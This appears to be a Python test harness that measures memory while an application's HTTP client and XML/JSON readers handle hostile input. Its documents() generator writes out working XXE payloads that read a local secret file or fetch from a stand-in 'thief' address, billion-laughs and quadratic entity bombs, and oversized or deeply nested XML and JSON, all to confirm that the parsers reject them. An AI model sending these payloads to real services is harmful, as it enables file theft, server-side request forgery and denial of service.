"""The process whose memory is measured: asks a hostile server for everything that it has, and reads hostile documents.

Run by test_hostile_wire.py. Prints one JSON line a case: name, how it ended, seconds, and how far the peak of memory rose.
"""

from __future__ import annotations

import asyncio
import base64
import gc
import json
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import msgspec
import psutil

from app.contracts import ProviderError
from app.http import Network, Policy, SampleRing
from app.kit import Call, Reply, decode_json, read_records, read_xml, send, soap_body, soap_errors, text_of
from app.kit.graphql import graphql_errors

DEADLINE_S = 2.0
MIB = 1024 * 1024


class Memory:
    """How far this process's memory rose since `start`. Linux can forget the highest mark; elsewhere it is the highest so far."""

    def start(self) -> None:
        gc.collect()
        if sys.platform == "linux":
            with suppress(OSError):
                Path("/proc/self/clear_refs").write_text("5", encoding="ascii")
        self._before = psutil.Process().memory_info().rss

    def rise(self) -> int:
        return max(0, self._peak() - self._before)

    @staticmethod
    def _peak() -> int:
        if sys.platform == "win32":
            return int(psutil.Process().memory_info().peak_wset)
        if sys.platform == "linux":
            status = Path("/proc/self/status").read_text("ascii")
            return int(status.partition("VmHWM:")[2].split()[0]) * 1024
        import resource

        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


memory = Memory()


def told(name: str, end: str, began: tuple[float, float], size: int = 0) -> None:
    """`began`: by `clocks`. `size`: of what was there before the measuring began, and belongs to the answer."""
    took, work = (now - then for now, then in zip(clocks(), began, strict=True))
    print(json.dumps({"name": name, "end": end, "took": took, "work": work, "rise": memory.rise() + size}), flush=True)


def clocks() -> tuple[float, float]:
    """By the wall, which runs on while others have the machine, and by this process's own work; seconds."""
    return time.monotonic(), time.process_time()


async def asked(base: str, cases: list[str]) -> None:
    network = Network(on_sample=SampleRing())
    policy = Policy(
        connection_id=1, account_id="a", connection_name="Mağaza", deadline_s=DEADLINE_S, hosts=frozenset({"127.0.0.1"}),
        retries=2,
    )  # fmt: skip
    for name in cases:
        network.reset_breaker(1)
        memory.start()
        client, began = network.client(policy, base), clocks()
        try:
            reply = await send(client, Call("GET", f"/{name}", name))
            end = f"{reply.status}: {len(reply.body)} bytes"
            rows = decode_json(reply, list[msgspec.Raw] | dict[str, msgspec.Raw])
            end += f", {len(rows)} values"
        except ProviderError as error:
            end = error.message.code
        except Exception as error:
            end = f"CRASH {type(error).__name__}: {error}"[:200]
        told(name, end, began)
    await network.close()


# -- documents -------------------------------------------------------------------------------------------------------------
def documents(thief: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    """XML and JSON that were made to hurt. `thief`: an address that must never be asked; `secret`: a file never to be read."""
    body = "<r>{}</r>"
    file_url = secret.as_uri()
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    quadratic = f'<!ENTITY q "{"x" * 60_000}">'
    yield "external file", f'{head}<!DOCTYPE r [<!ENTITY x SYSTEM "{file_url}">]>{body.format("&x;")}'.encode()
    yield "external address", f'{head}<!DOCTYPE r [<!ENTITY x SYSTEM "{thief}/x">]>{body.format("&x;")}'.encode()
    yield "external subset", f'{head}<!DOCTYPE r SYSTEM "{thief}/r.dtd">{body.format("1")}'.encode()
    yield "public subset", f'{head}<!DOCTYPE r PUBLIC "-//x//y" "{thief}/r.dtd">{body.format("1")}'.encode()
    yield "parameter entity", f'{head}<!DOCTYPE r [<!ENTITY % p SYSTEM "{thief}/p">%p;]>{body.format("1")}'.encode()
    yield (
        "parameter entity of a file",
        f'{head}<!DOCTYPE r [<!ENTITY % p SYSTEM "{file_url}">%p;]>{body.format("1")}'.encode(),
    )
    yield "billion laughs", f"{head}<!DOCTYPE r [{laughs}]>{body.format('&a11;')}".encode()
    yield "billion laughs in an attribute", f'{head}<!DOCTYPE r [{laughs}]><r a="&a11;"/>'.encode()
    yield "laughs by default", f'{head}<!DOCTYPE r [{laughs}<!ATTLIST r a CDATA "&a11;">]><r/>'.encode()
    yield "quadratic", f"{head}<!DOCTYPE r [{quadratic}]>{body.format('&q;' * 30_000)}".encode()
    yield "quadratic in an attribute", f'{head}<!DOCTYPE r [{quadratic}]><r a="{"&q;" * 30_000}"/>'.encode()
    yield (
        "laughs in UTF-16",
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [{laughs}]>{body.format("&a11;")}'.encode("utf-16"),
    )
    yield (
        "external file in UTF-7",
        f'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r [+ADw-!ENTITY x SYSTEM "{file_url}"+AD4-]+AD4-+ADw-r+AD4-+ACY-x;+ADw-/r+AD4-'.encode(),
    )
    yield "subset alone", f"{head}<!DOCTYPE r>{body.format('1')}".encode()
    yield (
        "xinclude",
        f'{head}<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{file_url}" parse="text"/></r>'.encode(),
    )
    yield "style sheet", f'{head}<?xml-stylesheet href="{thief}/x.xsl" type="text/xsl"?>{body.format("1")}'.encode()
    yield (
        "schema place",
        f'{head}<r xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="{thief}/x.xsd"/>'.encode(),
    )
    yield "deep", (head + "<a>" * 200_000 + "</a>" * 200_000).encode()
    yield "deep and open", (head + "<a>" * 2_000_000).encode()
    yield "huge attribute", f'{head}<r a="{"x" * (20 * MIB)}"/>'.encode()
    yield "many attributes", (head + "<r " + " ".join(f'a{n}="1"' for n in range(400_000)) + "/>").encode()
    yield "many names", (head + "<r>" + "".join(f"<a{n}/>" for n in range(1_500_000)) + "</r>").encode()
    yield "many spaces", (head + "<r " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(200_000)) + "/>").encode()
    yield "tiny elements", (head + "<r>" + "<a/>" * 5_500_000 + "</r>").encode()
    yield "huge text", (head + "<r>" + "x" * (22 * MIB) + "</r>").encode()
    yield "wide text", (head + "<r>" + "x" * (20 * MIB) + "😀</r>").encode()
    yield "beyond the limit", b"<r>" + b" " * (25 * MIB) + b"</r>"
    yield "comments", (head + "<r>" + "<!---->" * 2_000_000 + "</r>").encode()
    yield "references", (head + "<r>" + "&#120;" * 1_000_000 + "</r>").encode()
    yield "json tiny values", b"[" + b"0," * (11 * MIB) + b"0]"
    yield "json tiny lists", b"[" + b"[]," * (7 * MIB) + b"0]"
    yield "json tiny keys", b"{" + b",".join(b'"%x":{}' % n for n in range(1_500_000)) + b"}"
    yield "json deep", b'{"errors":' + b"[" * 5_000_000 + b"]" * 5_000_000 + b"}"
    yield "json deep objects", b'{"a":' * 2_000_000 + b"1" + b"}" * 2_000_000
    yield "json long number", b'{"a":' + b"9" * (8 * MIB) + b"}"
    yield "json wide text", b'{"a":"' + b"x" * (20 * MIB) + '😀"}'.encode()
    yield "json halves", b'{"a":"' + rb"\ud83d" * (2 * MIB) + b'"}'
    yield "json halves within the limit", b'{"a":"' + rb"\ud83d" * 300_000 + b'"}'
    yield "json backslashes within the limit", b'{"a":"' + b"\\" * (4 * MIB - 64) + rb'\ud83d"}'
    yield "json NaN within the limit", b"[" + b"NaN," * 200_000 + b"NaN]"
    yield "json backslashes", b'{"a":"' + b"\\" * (8 * MIB) + rb'\ud83d"}'
    yield "json NaN", b"[" + b"NaN," * 900_000 + b"NaN]"
    yield "json spaces", b"[" + b" " * (20 * MIB) + b"]"
    yield "json base64 number", b'{"a":' + base64.b64encode(bytes(3 * MIB)) + b"}"


class _Row(msgspec.Struct):
    id: int
    name: str = ""


def _read(data: bytes) -> str:
    reply = Reply(200, {}, data, "orders")
    if data[:1] in b"[{":
        graphql_errors(reply)
        rows = decode_json(reply, list[msgspec.Raw] | dict[str, msgspec.Raw])
        found, rejects = read_records(
            rows if isinstance(rows, list) else [data], _Row, lambda row: row, lambda raw: str(raw["id"])
        )  # type: ignore[list-item]
        return f"{len(found)} rows, {len(rejects)} rejects"
    soap_errors(reply)
    root = read_xml(reply)
    text = text_of(root) + root.get("a", "") + "".join(one.text or "" for one in root.iter())
    return f"{len(text)} letters{' SECRET' if 'top-secret' in text else ''}"


def _soap(data: bytes) -> str:
    return text_of(soap_body(Reply(200, {}, data, "create")))


def read(thief: str, secret: Path) -> None:
    for name, data in documents(thief, secret):
        for how in (_read, *([_soap] if data[:1] == b"<" else [])):
            memory.start()
            began = clocks()
            end = _ended(how, data)
            told(f"{name}{'' if how is _read else ' (SOAP)'}", end, began, len(data))


def _ended(how: Callable[[bytes], str], data: bytes) -> str:
    try:
        return how(data)
    except ProviderError as error:
        return error.message.code
    except Exception as error:
        return f"CRASH {type(error).__name__}: {error}"[:200]


def main(argv: list[str]) -> None:
    what, base = argv[:2]
    rest: Any = argv[2:]
    if what == "ask":
        asyncio.run(asked(base, rest))
    else:
        read(base, Path(rest[0]))


if __name__ == "__main__":
    main(sys.argv[1:])
